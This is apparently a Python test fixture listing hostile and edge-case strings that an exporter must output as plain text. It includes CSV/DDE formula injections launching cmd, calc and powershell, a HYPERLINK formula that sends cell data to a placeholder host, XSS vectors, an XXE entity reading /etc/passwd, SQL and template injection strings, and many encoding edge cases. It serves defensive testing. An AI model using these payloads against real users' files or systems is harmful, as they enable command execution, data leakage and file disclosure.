r"""Texts that somebody might type, or paste, that are to come out of every format as text."""

HOSTILE = [
    # Formulas, and what a spreadsheet or a CSV import takes for the start of one.
    *("=1+1", '=HYPERLINK("http://example.org/?"&A1,"Klicka")', "+1+1", "-2+3", "@SUM(1,2)"),
    *("\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", '"=1+1"', ";=1+1", ",=1+1", "＝1+1", "＋1+1"),
    *("－1+1", "＠SUM(1)", "{=SUM(A1:A3)}", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
    *("+cmd|'/C powershell'!_xlbgnm.A1", 'DDE("cmd";"/C calc";"1")'),
    *('=WEBSERVICE("http://example.org")', "%0A=1+1", "\u200b=1+1", "\ufeff=1+1"),
    # What spreadsheets take for something else than text.
    *("1E5", "0012", "2026-11-24", "3/4", "TRUE", "#REF!", "1,5"),
    # Markup.
    *("<script>alert(1)</script>", "</textarea></title></style></script><script>alert(1)</script>"),
    *("<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<b>fet</b> & <i>kursiv</i>"),
    *("\"><a href='javascript:alert(1)'>x</a>", "&lt;script&gt;&amp;amp;&#60;b&#62;&nbsp;"),
    *("<!-- --><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "]]><![CDATA[x]]>"),
    *("<?xml version='1.0'?><?php echo 1; ?>", "' onmouseover='alert(1)", "`onmouseover=alert(1)`"),
    *("</a:t></a:r><a:r><a:t>x", '<a:fld type="slidenum"/>'),
    "expression(alert(1)); } body { display: none } /*",
    # Links.
    *("[text](javascript:alert(1))", "![](http://example.org/x.png)", "<http://example.org>"),
    *("http://example.org/?a=1&b=2#c", "javascript:alert(1)", "mailto:namn@example.org"),
    *("www.example.org", "\\\\server\\share\\fil.xlsx", "file:///etc/passwd", "internal:Blad1!A1"),
    # Escapes, fields and templates.
    *("_x000D_", "_x0000_x_x0041_", "_x005F_x000D_", '{ HYPERLINK "http://example.org" }'),
    *('{ DATE \\@ "yyyy" } &D &P &[File]', "<number> ‹#›", "{0} {} {name} {{x}} {0.__class__}"),
    *("%s %d %n %(x)s %%", "${x} $(x) #{x} {{ x }} {% x %} <%= x %>", "\\u0041 \\n \\0 \\"),
    # Characters that formats cannot hold, or that show otherwise than they are.
    *("a\0b", "a\x01b\x08c\x0bd\x0ce\x1ff", "a\x7fb\x80c\x85d\x9fe", "a\ufffeb\uffffc\ufdd0d"),
    *("\ud83d", "a\udc00b\ud800c", "\u202egnirts\u202c abc", "\u200fאבג\u200e (שלום) عربي"),
    *("\u2066a\u2067b\u2069c\u2069", "a\u200bb\u200cc\u200dd\u2060e\ufefff\xadg"),
    *("rad ett\u2028rad två\u2029rad tre", "rad ett\nrad två\r\nrad tre\rrad fyra", "\ta\tb\t"),
    *("   ", "\n\n\n", "  först  två  mellanslag  sist  ", "e\u0301 n\u0303 a\u030a"),
    *("Z" + "\u0335\u0321\u0322" * 30, "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇸🇪 1️⃣", "𝒜𝓈𝓉𝓇𝒶𝓁 𠜎 \U0010fffd"),
    # What breaks JSON, CSV and the like.
    *('"; DROP TABLE x; --', "a;b,c\td|e", '"""', '"a""b","c', '{"a": [1, null]}', '\\"}]', "NaN"),
    "null",
    # Long ones.
    *("Ord och fler ord. " * 5600, "x" * 100_000, "😀" * 25_000, "rad\n" * 20_000),
    "0123456789" * 7 + "\u00e5\u00e4\u00f6" * 40,
]
